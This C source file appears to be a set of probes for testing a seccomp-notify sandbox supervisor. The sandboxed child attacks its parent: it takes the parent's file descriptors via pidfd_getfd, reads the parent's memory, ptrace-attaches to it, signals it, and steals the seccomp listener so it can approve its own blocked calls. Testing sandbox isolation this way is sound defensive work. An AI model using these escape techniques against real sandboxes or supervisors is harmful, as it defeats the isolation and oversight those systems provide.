/* probe: attack ops (probe.h) */
#include "probe.h"

/* listfd: print "N=target" for every entry of /proc/self/fd. */
int op_listfd(char **av, char *d, size_t dn)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *de;
	size_t off = 0;
	int fd = -1;

	(void)av;
	if (!dir)
		FAIL("opendir");
	while ((de = readdir(dir)) && off < dn) {
		char p[320], t[256];
		ssize_t n;

		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "/proc/self/fd/%s", de->d_name);
		n = readlink(p, t, sizeof(t) - 1);
		t[n > 0 ? n : 0] = '\0';
		off += (size_t)snprintf(d + off, dn - off, "%s%s=%s", off ? " " : "", de->d_name,
					t);
	}
	closedir(dir);
	return 0;
}

bool is_notify_fd(int fd)
{
	char p[64], t[256];
	ssize_t n;

	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
	n = readlink(p, t, sizeof(t) - 1);
	t[n > 0 ? n : 0] = '\0';
	return strstr(t, "seccomp") != NULL;
}

/* open-ppid-fd: try to reach the parent's (the supervisor's) fds through /proc/PPID/fd and
 * pidfd_getfd; report what succeeded and whether a seccomp notify fd was obtained. */
int op_open_ppid_fd(char **av, char *d, size_t dn)
{
	int ppid = getppid(), entries = 0, rl = 0, opened = 0, onot = 0, got = 0, gnot = 0;
	char dirp[64];
	const char *dir_res = "ok", *pidfd_res = "ok";
	DIR *dir;
	struct dirent *de;
	long pfd;
	int i;

	(void)av;
	snprintf(dirp, sizeof(dirp), "/proc/%d/fd", ppid);
	dir = opendir(dirp);
	if (!dir) {
		dir_res = ename(errno);
	} else {
		while ((de = readdir(dir))) {
			char p[384], t[256];
			int fd;

			if (de->d_name[0] == '.')
				continue;
			entries++;
			snprintf(p, sizeof(p), "%s/%s", dirp, de->d_name);
			if (readlink(p, t, sizeof(t)) >= 0)
				rl++;
			fd = open(p, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
			if (fd >= 0) {
				opened++;
				onot += is_notify_fd(fd);
				close(fd);
			}
		}
		closedir(dir);
	}
	pfd = syscall(__NR_pidfd_open, ppid, 0);
	if (pfd == -1) {
		pidfd_res = ename(errno);
	} else {
		for (i = 0; i < 64; i++) {
			long fd = syscall(__NR_pidfd_getfd, pfd, i, 0);

			if (fd >= 0) {
				got++;
				gnot += is_notify_fd((int)fd);
				close((int)fd);
			}
		}
		close((int)pfd);
	}
	{
		/* the same ptrace access check guards the supervisor's memory */
		char mp[64], line[256];
		const char *mem_res = "ok", *vm_res = "nomaps";
		unsigned long start = 0;
		FILE *maps;
		int mfd;

		snprintf(mp, sizeof(mp), "/proc/%d/mem", ppid);
		mfd = open(mp, O_RDWR | O_CLOEXEC);
		if (mfd == -1)
			mem_res = ename(errno);
		else
			close(mfd);
		snprintf(mp, sizeof(mp), "/proc/%d/maps", ppid);
		maps = fopen(mp, "re");
		if (maps && fgets(line, sizeof(line), maps) && sscanf(line, "%lx-", &start) == 1) {
			char byte;
			struct iovec local = { .iov_base = &byte, .iov_len = 1 };
			struct iovec remote = { .iov_base = (void *)start, .iov_len = 1 };

			vm_res = process_vm_readv(ppid, &local, 1, &remote, 1, 0) == 1
					 ? "ok"
					 : ename(errno);
		}
		if (maps)
			fclose(maps);
		snprintf(d, dn,
			 "ppid=%d dir=%s entries=%d readlink=%d open=%d open_notify=%d pidfd=%s "
			 "getfd=%d getfd_notify=%d mem=%s vm_read=%s",
			 ppid, dir_res, entries, rl, opened, onot, pidfd_res, got, gnot, mem_res,
			 vm_res);
	}
	return 0;
}

void *steal_connector(void *arg)
{
	struct steal *st = arg;
	long k;

	for (k = 0; k < st->n; k++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd == -1)
			continue;
		count(&st->c, connect(fd, (struct sockaddr *)&st->sun, st->len) == -1 ? errno : 0);
		close(fd);
	}
	atomic_store(&st->done, 1);
	return NULL;
}

/*
 * steal-notify ADDR N: take the seccomp listener from the parent (the supervisor) with
 * pidfd_getfd, then answer our own notifications with SECCOMP_USER_NOTIF_FLAG_CONTINUE while a
 * thread connects to ADDR N times. Prints "stolen=0" when no listener could be taken.
 */
int op_steal_notify(char **av, char *d, size_t dn)
{
	static struct steal st;
	long pfd = syscall(__NR_pidfd_open, getppid(), 0), handled = 0;
	int nfd = -1, i, fd = -1;
	pthread_t t;

	if (pfd == -1)
		FAIL("pidfd_open");
	for (i = 0; i < 256 && nfd < 0; i++) {
		long f = syscall(__NR_pidfd_getfd, pfd, i, 0);

		if (f < 0)
			continue;
		if (is_notify_fd((int)f))
			nfd = (int)f;
		else
			close((int)f);
	}
	close((int)pfd);
	if (nfd < 0) {
		snprintf(d, dn, "stolen=0");
		return 0;
	}
	st.len = mkaddr(&st.sun, av[0]);
	st.n = parse_long(av[1]);
	if (pthread_create(&t, NULL, steal_connector, &st))
		usage("pthread_create failed");
	while (!atomic_load(&st.done)) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;

		if (!(wait_fd(nfd, POLLIN, 100) & POLLIN))
			continue;
		memset(&req, 0, sizeof(req));
		if (ioctl(nfd, SECCOMP_IOCTL_NOTIF_RECV, &req) == -1)
			continue;
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		if (ioctl(nfd, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
			handled++;
	}
	pthread_join(t, NULL);
	close(nfd);
	snprintf(d, dn, "stolen=1 handled=%ld", handled);
	format_counts(d, dn, &st.c, "");
	return 0;
}

/* spin SECONDS ADDR...: connect-only to each ADDR in turn (1 ms apart) for SECONDS; print
 * "I ok" / "I errno ENAME" whenever address I's result changes, then a summary line. */
int op_spin(char **av, char *d, size_t dn)
{
	long secs = parse_long(av[0]);
	int last[8], naddr = 0, i;
	struct timespec t0, t;
	struct counts *c = calloc(1, sizeof(*c));

	(void)d;
	(void)dn;
	if (!c)
		usage("out of memory");
	for (i = 0; i < 8 && av[i + 1]; i++, naddr++)
		last[i] = -1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	do {
		for (i = 0; i < naddr; i++) {
			char *one[2] = { av[i + 1], NULL };
			char det[64];
			int e = op_connect_only(one, det, sizeof(det));

			count(c, e);
			if (e != last[i]) {
				if (e)
					result("%d errno %s", i, ename(e));
				else
					result("%d ok", i);
				last[i] = e;
			}
		}
		usleep(1000);
		clock_gettime(CLOCK_MONOTONIC, &t);
	} while (t.tv_sec - t0.tv_sec < secs);
	{
		char sum[512] = "";

		format_counts(sum, sizeof(sum), c, "");
		result("spin %s", sum);
	}
	free(c);
	return -1;
}

void on_sig(int sig)
{
	_exit(100 + sig);
}

/* trap: exit 100+SIG on SIGTERM/SIGINT/SIGHUP/SIGQUIT/SIGUSR1; print "ready"; wait <= 30 s. */
int op_trap(char **av, char *d, size_t dn)
{
	static const int sigs[] = { SIGTERM, SIGINT, SIGHUP, SIGQUIT, SIGUSR1 };
	struct sigaction sa = { .sa_handler = on_sig };
	size_t i;

	(void)av;
	(void)d;
	(void)dn;
	for (i = 0; i < sizeof(sigs) / sizeof(sigs[0]); i++)
		sigaction(sigs[i], &sa, NULL);
	result("ready");
	for (i = 0; i < 300; i++)
		usleep(100000);
	return ETIMEDOUT;
}

/* pause: print "ready" and sleep <= 30 s with default signal dispositions. */
int op_pause(char **av, char *d, size_t dn)
{
	int i;

	(void)av;
	(void)d;
	(void)dn;
	result("ready");
	for (i = 0; i < 300; i++)
		usleep(100000);
	return ETIMEDOUT;
}

/* kill ppid|proc-ppid|PID SIG: send SIG (a number) to the parent or to PID. */
int op_kill(char **av, char *d, size_t dn)
{
	pid_t pid = !strcmp(av[0], "ppid")	  ? getppid()
		    : !strcmp(av[0], "proc-ppid") ? proc_ppid()
						  : (pid_t)parse_long(av[0]);

	snprintf(d, dn, "pid=%d", (int)pid);
	return kill(pid, (int)parse_long(av[1])) == -1 ? errno : 0;
}

/* ptrace-ppid: PTRACE_ATTACH to the parent (detached again if that worked). */
int op_ptrace_ppid(char **av, char *d, size_t dn)
{
	pid_t pid = getppid();

	(void)av;
	(void)d;
	(void)dn;
	if (syscall(SYS_ptrace, 16 /* PTRACE_ATTACH */, pid, 0, 0) == -1)
		return errno;
	waitpid(pid, NULL, __WALL);
	syscall(SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0);
	return 0;
}

/* status: no_new_privs and the capability sets, as "nnp=1 CapEff=… CapPrm=…". */
int op_status(char **av, char *d, size_t dn)
{
	static const char *const keys[] = { "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb" };
	char line[256];
	size_t len, i;
	FILE *f = fopen("/proc/self/status", "re");
	int fd = -1;

	(void)av;
	if (!f)
		FAIL("open");
	len = snprintf(d, dn, "nnp=%d", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	while (fgets(line, sizeof(line), f) && len < dn)
		for (i = 0; i < sizeof(keys) / sizeof(keys[0]); i++)
			if (!strncmp(line, keys[i], strlen(keys[i])) && len < dn) {
				line[strcspn(line, "\n")] = '\0';
				len += snprintf(d + len, dn - len, " %s=%s", keys[i],
						line + strlen(keys[i]) + 2);
			}
	fclose(f);
	return 0;
}

/* tcp-connect-lo PORT / tcp-bind-lo PORT: connect or bind an AF_INET stream socket to
 * 127.0.0.1:PORT. */
int tcp_lo(const char *port, bool do_bind, char *d, size_t dn)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons((uint16_t)parse_long(port)),
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd == -1)
		FAIL("socket");
	if (do_bind && bind(fd, (struct sockaddr *)&sin, sizeof(sin)) == -1)
		FAIL("bind");
	if (!do_bind && connect(fd, (struct sockaddr *)&sin, sizeof(sin)) == -1)
		FAIL("connect");
	close(fd);
	return 0;
}
